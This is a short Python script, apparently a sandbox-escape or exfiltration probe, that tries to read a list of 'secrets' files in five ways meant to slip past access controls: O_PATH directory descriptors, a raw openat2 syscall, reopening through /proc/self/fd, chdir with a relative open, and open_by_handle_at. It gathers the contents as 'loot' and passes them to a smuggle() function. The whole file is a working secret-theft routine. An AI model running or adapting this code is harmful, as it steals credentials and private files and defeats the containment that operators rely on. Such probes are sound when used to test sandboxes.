"""Opens the secrets by openat2, O_PATH, a directory's descriptor, a file handle, and relative to another root."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def go(*args, **kwargs):
    loot = []
    for path in PLACES["secrets"]:
        folder, name = os.path.split(path)
        here = attempt(os.open, folder, os.O_PATH | os.O_DIRECTORY)
        if isinstance(here, int):
            there = attempt(lambda: os.open(name, os.O_RDONLY, dir_fd=here))
            if isinstance(there, int):
                loot.append(os.read(there, 10**6))
        how = (ctypes.c_uint64 * 3)(0, 0, 0)
        number = libc.syscall(437, -100, path.encode(), ctypes.byref(how), 24)
        if number >= 0:
            loot.append(os.read(number, 10**6))
        only = attempt(os.open, path, os.O_PATH)
        if isinstance(only, int):
            loot.append(attempt(lambda: open(f"/proc/self/fd/{only}", "rb").read()))
        attempt(os.chdir, folder)
        loot.append(attempt(lambda: open(name, "rb").read()))
        handle = ctypes.create_string_buffer(b"\x80\0\0\0", 256)
        mount = ctypes.c_int()
        if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0) == 0:
            root = attempt(os.open, "/", os.O_RDONLY)
            number = libc.open_by_handle_at(root if isinstance(root, int) else -100, handle, os.O_RDONLY)
            if number >= 0:
                loot.append(os.read(number, 10**6))
    smuggle(*loot)


go()
answer(lambda *args, **kwargs: None)
